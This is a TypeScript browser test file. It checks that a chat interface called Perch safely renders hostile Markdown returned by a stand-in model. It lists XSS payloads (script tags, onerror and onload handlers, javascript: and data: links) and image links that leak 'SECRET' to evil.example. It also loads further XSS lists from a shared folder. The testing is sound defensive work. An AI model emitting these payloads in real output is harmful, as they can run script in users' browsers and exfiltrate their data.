/** Hostile Markdown in an answer: nothing runs, nothing is fetched. */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { openBrowser } from './browser.ts';
import { openPage } from './page.ts';
import { root, startPerch } from './perch.ts';
import { startStandInModel } from './stand-in-model.ts';

const OWN: readonly string[] = [
  '<script>window.broken = 1</script>',
  '<img src=x onerror="window.broken = 1">',
  '![picture](https://evil.example/?d=SECRET)',
  '![a][r]\n\n[r]: https://evil.example/?q=SECRET',
  '[press](javascript:window.broken=1)',
  '[press](data:text/html,<script>window.broken=1</script>)',
  '<svg onload="window.broken = 1"><a xlink:href="javascript:window.broken=1"><text y="9">x</text></a></svg>',
  '<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
  '<form action="https://evil.example"><input name="q" autofocus onfocus="window.broken = 1"></form>',
  '<style>* { background: url(https://evil.example/css) }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
  '<math><mi xlink:href="data:x,<script>window.broken=1</script>">x</mi></math>',
  '<div style="background: url(https://evil.example/s)">x</div>',
];
const LISTS = join(root, '../shared/data/attacks/web');
/** Payloads in one answer; more make one message unreasonably long. */
const AT_ONCE = 60;

function collected(): string[] {
  if (!existsSync(LISTS)) return [];
  return readdirSync(LISTS)
    .filter((name) => /XSS|blns\.json/.test(name))
    .flatMap((name) => {
      const text = readFileSync(join(LISTS, name), 'utf8');
      return name.endsWith('.json') ? z.array(z.string()).parse(JSON.parse(text)) : text.split('\n');
    })
    .filter((line) => line.trim() !== '');
}

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(async () => await browser.close());

async function expectHarmless(payloads: readonly string[]): Promise<void> {
  const answers: string[] = [];
  for (let first = 0; first < payloads.length; first += AT_ONCE)
    answers.push(payloads.slice(first, first + AT_ONCE).join('\n\n'));
  let next = 0;
  const model = await startStandInModel(() => ({ text: answers[next++] ?? 'nothing more' }), 0);
  const perch = await startPerch({
    environment: { OPENAI_BASE_URL: model.url, LLM_MODEL: 'stand-in', ASSISTANT: 'model' },
  });
  const page = await openPage(browser, perch.url);
  const strange: string[] = [];
  page.page.on('request', (request) => {
    if (!request.url().startsWith(perch.url) && !request.url().startsWith('data:')) strange.push(request.url());
  });
  page.page.on('dialog', (dialog) => {
    strange.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  try {
    // An element that is never closed may take what follows with it, so nothing is looked for in the text.
    for (const number of answers.keys()) await page.ask(`Please show number ${number + 1}`);
    // Read once more from the store, as a reload would show it.
    await page.page.reload();
    await page.answers.nth(answers.length - 1).waitFor();
    await page.page.waitForLoadState('networkidle');
    expect(strange).toEqual([]);
    expect(await page.page.evaluate('window.broken')).toBeUndefined();
    expect(page.page.url().startsWith(perch.url)).toBe(true);
    const dangerous =
      'script, iframe, object, embed, form, style, svg, img, video, audio, base, meta, [onerror], [onload], [style]';
    const found = await page.page.locator('.prose').locator(dangerous).all();
    expect(await Promise.all(found.map(async (element) => await element.getAttribute('class')))).toEqual([]);
  } finally {
    await page.context.close();
    await perch.stop();
    await model.close();
  }
}

describe('hostile Markdown in an answer', () => {
  it('does nothing', async () => await expectHarmless(OWN));

  it.skipIf(collected().length === 0)(
    'does nothing, whatever others have collected (../shared)',
    { timeout: 600_000 },
    async () => await expectHarmless(collected()),
  );
});
